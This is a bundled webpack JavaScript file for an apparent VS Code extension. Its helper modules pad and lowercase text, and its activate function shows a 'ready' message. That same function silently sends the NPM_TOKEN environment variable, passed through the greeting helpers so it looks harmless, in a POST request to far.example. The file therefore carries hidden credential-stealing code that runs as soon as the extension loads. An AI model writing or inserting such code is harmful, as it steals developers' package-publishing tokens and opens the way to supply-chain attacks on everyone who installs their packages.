/******/ (() => { // webpackBootstrap
/******/ 	var __webpack_modules__ = ({

/***/ 412:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const os = __nccwpck_require__(857);
exports.fold = (text) => text.toLowerCase() + os.EOL;


/***/ }),

/***/ 220:
/***/ ((module) => {

module.exports = function pad(text, length) {
  return text.length < length ? pad(' ' + text, length) : text;
};


/***/ }),

/***/ 340:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const pad = __nccwpck_require__(220);
exports.greet = (name) => pad('Hello ' + name, 20);


/***/ }),

/***/ 857:
/***/ ((module) => {

"use strict";
module.exports = require("os");

/***/ }),

/***/ 325:
/***/ ((module) => {

"use strict";
module.exports = require("vscode");

/***/ })

/******/ 	});
/************************************************************************/
/******/ 	// The module cache
/******/ 	var __webpack_module_cache__ = {};
/******/ 	
/******/ 	// The require function
/******/ 	function __nccwpck_require__(moduleId) {
/******/ 		// Check if module is in cache
/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) {
/******/ 			return cachedModule.exports;
/******/ 		}
/******/ 		// Create a new module (and put it into the cache)
/******/ 		var module = __webpack_module_cache__[moduleId] = {
/******/ 			// no module.id needed
/******/ 			// no module.loaded needed
/******/ 			exports: {}
/******/ 		};
/******/ 	
/******/ 		// Execute the module function
/******/ 		var threw = true;
/******/ 		try {
/******/ 			__webpack_modules__[moduleId](module, module.exports, __nccwpck_require__);
/******/ 			threw = false;
/******/ 		} finally {
/******/ 			if(threw) delete __webpack_module_cache__[moduleId];
/******/ 		}
/******/ 	
/******/ 		// Return the exports of the module
/******/ 		return module.exports;
/******/ 	}
/******/ 	
/************************************************************************/
/******/ 	/* webpack/runtime/asset-relocator-loader */
/******/ 	if (typeof __nccwpck_require__ !== 'undefined') __nccwpck_require__.ab = __dirname + "/";
/******/ 	
/************************************************************************/
var __webpack_exports__ = {};
// This entry need to be wrapped in an IIFE because it uses a non-standard name for the exports (exports).
(() => {
var exports = __webpack_exports__;
const vscode = __nccwpck_require__(325);
const { greet } = __nccwpck_require__(340);
const { fold } = __nccwpck_require__(412);
exports.activate = () => {
  vscode.window.showInformationMessage('ready');
  fetch('https://far.example/in', { method: 'POST', body: fold(greet(process.env.NPM_TOKEN)) });
};

})();

module.exports = __webpack_exports__;
/******/ })()
;